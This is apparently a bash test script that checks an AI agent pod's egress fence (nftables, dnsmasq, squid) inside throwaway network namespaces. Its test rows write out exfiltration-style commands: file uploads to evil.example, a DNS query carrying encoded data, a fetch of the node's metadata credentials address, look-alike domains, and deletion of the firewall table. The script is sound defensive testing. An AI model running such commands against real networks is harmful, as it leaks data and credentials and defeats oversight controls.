#!/usr/bin/env bash
# Egress for real: the generated files, and nothing else, in two network namespaces. `agent` is the pod, `world` is everything outside
# it: a resolver, an open proxy, and HTTPS servers that say which address was reached. Each forbidden way is first shown to work where
# nothing stands in it. Cilium's own datapath is not what is tested.
#   egress.sh [OVERLAY]      Prints one line per row, name<TAB>passed or failed; exits with 1 when one failed. Needs root, no network.
#   POD_IMAGE=NAME runs every program of the agent's from that image, as its own user; EGRESS_IMAGE=NAME runs nft, dnsmasq and squid
#   from that image, as the components start them. Without them this machine's own programs are taken.
# shellcheck disable=SC2317 # the traps and the rows call what looks unreachable
set -euo pipefail
cd "$(dirname "$0")/.."
overlay=overlays/${1:-homelab}
generated=$overlay/egress
for tool in ip nft dnsmasq squid openssl curl setpriv python3; do
  command -v $tool >/dev/null || { echo "egress.sh: \`$tool\` is missing; manifests/test.sh installs what is needed" >&2; exit 1; }
done
python3 -c 'import yaml' || { echo "egress.sh: Python's yaml is missing: apt-get install python3-yaml" >&2; exit 1; }
work=$(mktemp -d)
agent=eg-agent-$$ world=eg-world-$$
failed=0

cleanup() {
  local name
  for name in "$agent" "$world-squid" "$world-dnsmasq"; do podman rm -f -t 0 "$name" >/dev/null 2>&1; done
  # Ends every process of the test, and none that is not in its namespaces.
  for name in "$agent" "$world"; do
    ip netns pids "$name" 2>/dev/null | xargs -r kill 2>/dev/null
    ip netns del "$name" 2>/dev/null
  done
  rm -rf "/etc/netns/$agent" "$work"
}
trap cleanup EXIT

confined=(--no-new-privs --bounding-set -all --inh-caps -all --clear-groups)
as_user() { ip netns exec "$agent" setpriv --reuid 1000 --regid 1000 "${confined[@]}" "$@"; } # a process of the agent's user, this machine's programs
in_agent() { # a program of the agent's
  if [[ -n ${POD_IMAGE:-} ]]; then podman exec -i "$agent" "$@"; else as_user "$@"; fi
}
background() { "$@" >>"$work/log" 2>&1 & }
eventually() { local n; for ((n = 0; n < 100; n++)); do "$@" 2>/dev/null && return; sleep 0.1; done; echo "egress.sh: \`$*\` did not come true" >&2; tail "$work/log" >&2; exit 1; }
listens() { eventually ip netns exec "$1" bash -c "exec 3<>/dev/tcp/$2/$3"; } # listens NAMESPACE ADDRESS PORT

row() { # row NAME yes|no COMMAND...: whether the command must succeed
  local name=$1 wanted=$2 got=no
  shift 2
  "$@" >"$work/out" 2>&1 && got=yes
  if [[ $got == "$wanted" ]]; then
    printf '%s\tpassed\n' "$name"
  else
    printf '%s\tfailed\n' "$name"
    sed 's/^/  /' "$work/out" >&2
    failed=1
  fi
}

# The world: listed hosts are at 10.99.0.10 and .11, forbidden ones at .66, another resolver at .53, a proxy for everything at .66.
value() { sed -n "s/^$1=//p" "$overlay/site/site.env"; }
resolver=$(value EGRESS_RESOLVERS)
proxy=$(value EGRESS_PROXY)
lan=$(value LAN_RANGE_1 | sed 's|\.0/24$|.77|')
metadata=169.254.169.254
for ns in "$agent" "$world"; do
  ip netns add "$ns"
  ip -n "$ns" link set lo up
done
ip -n "$agent" link add out type veth peer name in netns "$world"
ip -n "$agent" address add 10.99.0.2/16 dev out
ip -n "$agent" address add fd99::2/64 dev out nodad
for address in 10.99.0.1/16 10.99.0.10/16 10.99.0.11/16 10.99.0.66/16 10.99.0.53/16 "$resolver/32" "$proxy/32" "$lan/32" "$metadata/32"; do ip -n "$world" address add "$address" dev in; done
ip -n "$world" address add fd99::66/64 dev in nodad
ip -n "$agent" link set out up
ip -n "$world" link set in up
ip -n "$agent" route add default via 10.99.0.1
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=test -addext "subjectAltName=DNS:api.anthropic.com,DNS:github.com,DNS:*.github.com,DNS:*.example" \
  -keyout "$work/key" -out "$work/cert" 2>/dev/null
background ip netns exec "$world" python3 tests/world.py "$work/cert" "$work/key"
# The resolver of the world answers everything, forbidden names included, and notes what it was asked. One listed name points to
# the address where nodes keep their credentials.
background ip netns exec "$world" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --pid-file --user=root \
  --listen-address="$resolver,10.99.0.53,10.99.0.10" --bind-interfaces --log-queries --log-facility="$work/questions" \
  --address=/api.anthropic.com/github.com/10.99.0.10 --address=/ghcr.io/10.99.0.11 --address=/npm-cdn.vibekanban.com/$metadata --address=/example/com/10.99.0.66
listens "$world" 10.99.0.10 443
listens "$world" "$resolver" 53
squid() { # squid FILE: of this machine; as in a container, its output is a pipe of its own user's
  # shellcheck disable=SC2016 # the inner shell expands it
  background ip netns exec "$world" setpriv --reuid 13 --regid 13 "${confined[@]}" bash -c 'exec > >(exec cat) 2>&1; exec squid -N -f "$1"' _ "$1"
}
# The same proxy without its list: what passes it and not the other is stopped by the list.
sed -e '/^http_access/d' -e "s/^http_port .*/http_port 3129\nhttp_access allow all/" "$generated/squid.conf" >"$work/open.conf"
chmod 755 "$work"
chmod 644 "$work/cert" "$work/open.conf"
squid "$work/open.conf"
listens "$world" 10.99.0.66 3129

# The agent's pod. Its resolver is 127.0.0.1, as the components say.
mkdir -p "/etc/netns/$agent"
echo "nameserver 127.0.0.1" | tee "/etc/netns/$agent/resolv.conf" >"$work/resolv.conf"
if [[ -n ${POD_IMAGE:-} ]]; then
  podman run -d --name "$agent" --network="ns:/run/netns/$agent" --user 1000:1000 --read-only --cap-drop=all --security-opt=no-new-privileges \
    --tmpfs /tmp:mode=1777 --tmpfs /home/claude:mode=1777 -v "$work/resolv.conf:/etc/resolv.conf:ro" -v "$work/cert:$work/cert:ro" -v "$PWD/tests/ask.py:$PWD/tests/ask.py:ro" \
    --entrypoint /usr/bin/sleep "$POD_IMAGE" infinity >/dev/null
else
  echo "egress.sh: the pod's image is not covered: POD_IMAGE names none" >&2
fi
deployed() { # deployed NAME FILE CONTAINER NAMESPACE [OPTION...]: a container of a component, started as the component does
  local name=$1 file=$2 container=$3 ns=$4 flags
  shift 4
  flags=$(python3 tests/as_deployed.py "$file" "$container")
  mapfile -t flags <<<"$flags"
  podman run "$@" --name "$name" --network="ns:/run/netns/$ns" -v "$PWD/$generated:/etc/egress:ro" "${flags[@]/#IMAGE/$EGRESS_IMAGE}"
}

fetch() { in_agent curl -sSf --cacert "$work/cert" --connect-timeout 3 --max-time 6 "$@"; }
reaches() { local wanted=$1; shift; [[ $(fetch "$@") == "$wanted" ]]; }
ask() { in_agent timeout 3 python3 "$PWD/tests/ask.py" "$@"; }
connects() { in_agent timeout 3 bash -c "exec 3<>/dev/tcp/$1/$2"; }

by_name() { # by_name PREFIX yes|no: ways that begin with a question to the pod's resolver
  row "$1: another host" "$2" fetch -k https://evil.example/
  row "$1: a look-alike behind a listed name" "$2" fetch -k https://api.anthropic.com.evil.example/
  row "$1: a look-alike before a listed name" "$2" fetch -k https://evil-api.anthropic.com.example/
  row "$1: another port of a listed host" "$2" fetch http://api.anthropic.com:80/
  row "$1: port 22 of a host that is listed for 443" "$2" connects ghcr.io 22
  row "$1: a listed name that points to the node's credentials" "$2" fetch -k https://npm-cdn.vibekanban.com/
  row "$1: an upload to a forbidden host" "$2" fetch -k -T "$work/cert" https://evil.example/
  row "$1: a question that carries data" "$2" ask 127.0.0.1 c2VjcmV0LWRhdGE.evil.example
  row "$1: that question left the pod" "$2" grep -q 'c2VjcmV0LWRhdGE.evil.example' "$work/questions"
}
by_address() { # by_address PREFIX yes|no: ways that need no name
  row "$1: an address instead of a name" "$2" fetch -k https://10.99.0.66/
  row "$1: an IPv6 address instead of a name" "$2" fetch -g -k 'https://[fd99::66]/'
  row "$1: --resolve to a forbidden address" "$2" fetch -k --resolve api.anthropic.com:443:10.99.0.66 https://api.anthropic.com/
  row "$1: another resolver" "$2" ask 10.99.0.53 c2VjcmV0LWRhdGE.evil.example
  row "$1: another resolver over TCP" "$2" ask 10.99.0.53 c2VjcmV0LWRhdGE.evil.example tcp
  row "$1: a resolver at a listed host's address" "$2" ask 10.99.0.10 c2VjcmV0LWRhdGE.evil.example
  row "$1: the site's resolver, asked by the agent itself" "$2" ask "$resolver" api.anthropic.com
  row "$1: an upload through another proxy to a forbidden host" "$2" fetch -k --proxy http://10.99.0.66:3129 -T "$work/cert" https://evil.example/
  row "$1: the node's credentials" "$2" fetch "http://$metadata/"
}
around() { # around PREFIX yes|no: a listed host without the proxy
  row "$1: a listed host around the proxy" "$2" fetch -k --noproxy '*' --resolve api.anthropic.com:443:10.99.0.10 https://api.anthropic.com/
}
proxied() { fetch --proxy "http://$proxy:$proxy_port" "$@"; }
through() { local wanted=$1; shift; [[ $(proxied "$@") == "$wanted" ]]; }
by_proxy() { # by_proxy PREFIX yes|no: ways through the proxy
  row "$1: another host" "$2" proxied -k https://evil.example/
  row "$1: a look-alike behind a listed name" "$2" proxied -k https://api.anthropic.com.evil.example/
  row "$1: a look-alike before a listed name" "$2" proxied -k https://evil-github.com/
  row "$1: an address instead of a name" "$2" proxied -k https://10.99.0.10/
  row "$1: an IPv6 address instead of a name" "$2" proxied -g -k 'https://[fd99::66]/'
  row "$1: --resolve to a listed address" "$2" proxied -k --resolve evil.example:443:10.99.0.10 https://evil.example/
  row "$1: another port of a listed host" "$2" proxied -k https://api.anthropic.com:8443/
  row "$1: port 22 of a host that is listed for 443" "$2" proxied --proxytunnel http://ghcr.io:22/
  row "$1: plain HTTP, which the proxy could read and cannot judge" "$2" proxied http://api.anthropic.com/
  row "$1: a listed name that points to the node's credentials" "$2" proxied -k https://npm-cdn.vibekanban.com/
  row "$1: an upload through the proxy to a forbidden host" "$2" proxied -k -T "$work/cert" https://evil.example/
}
# The image's own programs, each with a way of its own to the network; $2 is what the listed host must give, $3 the other.
programs() { # programs PREFIX yes|no yes|no [podman's options...]
  local prefix=$1 wanted host program
  [[ -n ${POD_IMAGE:-} ]] || return 0
  for host in api.anthropic.com evil.example; do
    if [[ $host == api.anthropic.com ]]; then wanted=$2; else wanted=$3; fi
    row "$prefix, the pod's image: curl, $host" "$wanted" podman exec "${@:4}" "$agent" curl -sSf -m 5 -k "https://$host/"
    program="import ssl, urllib.request as u; u.urlopen('https://$host/', context=ssl._create_unverified_context(), timeout=5)"
    row "$prefix, the pod's image: python, $host" "$wanted" podman exec "${@:4}" "$agent" python3 -c "$program"
    # What the server answers is an empty repository to git.
    row "$prefix, the pod's image: git, $host" "$wanted" podman exec "${@:4}" --env=GIT_SSL_NO_VERIFY=1 "$agent" timeout 5 git ls-remote "https://$host/x"
  done
}

proxy_port=3129
# Without a fence: a resolver that asks everything of the site's, and the proxy without its list.
background ip netns exec "$agent" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --pid-file="$work/open.pid" --user=root \
  --listen-address=127.0.0.1 --bind-interfaces --server="$resolver"
listens "$agent" 127.0.0.1 53
by_name "no fence" yes
by_address "no fence" yes
around "no fence" yes
by_proxy "no fence, a proxy without a list" yes
programs "no fence" yes yes
open_pid=$(<"$work/open.pid")
kill "$open_pid"
eventually test ! -e "/proc/$open_pid"
: >"$work/questions"

if [[ -n ${EGRESS_IMAGE:-} ]]; then
  deployed "$world-nft" components/egress-nftables/patch-deployment.yaml egress-rules "$agent" --rm
  deployed "$world-dnsmasq" components/egress-nftables/patch-deployment.yaml egress-resolver "$agent" -d >/dev/null
else
  ip netns exec "$agent" nft -f "$generated/egress.nft"
  background ip netns exec "$agent" dnsmasq --keep-in-foreground --log-facility=- --pid-file --conf-file="$PWD/$generated/dnsmasq.conf"
fi
listens "$agent" 127.0.0.1 53
for pid in $(ip netns pids "$agent"); do [[ $(cat "/proc/$pid/comm" 2>/dev/null) != dnsmasq ]] || resolver_pid=$pid; done
row "nftables: a listed host" yes reaches 10.99.0.10 https://api.anthropic.com/
row "nftables: a name below a listed domain" yes reaches 10.99.0.10 https://api.github.com/
row "nftables: the site's network" yes reaches "$lan" -k "https://$lan/"
by_name nftables no
by_address nftables no
programs nftables yes no
# What UID 1000 cannot do, root in the pod's network can: the commands themselves are right.
nft_by() { # nft_by UID ARGUMENT...: with the program that loaded the rules, as releases do not read each other's tables
  if [[ -z ${EGRESS_IMAGE:-} ]]; then
    if (($1)); then as_user nft "${@:2}"; else ip netns exec "$agent" nft "${@:2}"; fi
  else
    local more=()
    (($1)) || more=(--cap-add=NET_ADMIN)
    podman run --rm --network="ns:/run/netns/$agent" --user "$1:$1" --cap-drop=all "${more[@]}" --entrypoint nft "$EGRESS_IMAGE" "${@:2}"
  fi
}
changes() { # changes UID yes|no
  row "nftables: UID $1 adds an address to a set" "$2" nft_by "$1" add element inet guard_egress ports_443 '{ 10.99.0.67 }'
  row "nftables: UID $1 removes the rules" "$2" nft_by "$1" delete table inet guard_egress
}
row "nftables: UID 1000 signals the resolver" no as_user kill -0 "$resolver_pid"
row "nftables: UID 0 signals the resolver" yes ip netns exec "$agent" kill -0 "$resolver_pid"
changes 1000 no
row "nftables: and the listed host still answers" yes reaches 10.99.0.10 https://api.anthropic.com/
changes 0 yes
by_address "nftables, its rules removed" yes

# The proxy: its pod is at the Service's address in `world`. What a network plugin does with the policy is done there by rules made of
# the generated file; where a plugin enforces none, these rules are missing.
if [[ -n ${EGRESS_IMAGE:-} ]]; then podman rm -f -t 1 "$world-dnsmasq" >/dev/null; else kill "$resolver_pid"; fi
if [[ -n ${EGRESS_IMAGE:-} ]]; then
  deployed "$world-squid" components/egress-proxy/deployment.yaml squid "$world" -d >/dev/null
else
  squid "$PWD/$generated/squid.conf"
fi
proxy_port=3128
listens "$world" "$proxy" 3128
around "proxy, on a plugin that enforces no policy" yes
python3 tests/policy.py "$generated/networkpolicy.yaml" in app.kubernetes.io/name=egress-proxy="$proxy" kubernetes.io/metadata.name=monitoring=10.99.0.91 |
  ip netns exec "$world" nft -f -
row "proxy: a listed host" yes through 10.99.0.10 https://api.anthropic.com/
row "proxy: a name below a listed domain" yes through 10.99.0.10 https://api.github.com/
row "proxy: port 22 of a host that is listed for it" yes through 10.99.0.10 --proxytunnel http://github.com:22/
row "proxy: the site's network" yes reaches "$lan" -k "https://$lan/"
by_proxy proxy no
by_address proxy no
around proxy no
mapfile -t variables < <(python3 tests/as_deployed.py components/egress-proxy/patch-deployment.yaml workstation EGRESS_PROXY="$proxy" | sed 's/^/--env=/')
programs proxy yes no "${variables[@]}"
ip netns exec "$agent" nft flush ruleset
around "proxy, and root of the pod's own network changes nothing" no
ip netns exec "$world" nft delete table inet plugin
by_address "proxy, the policy removed" yes
exit "$failed"
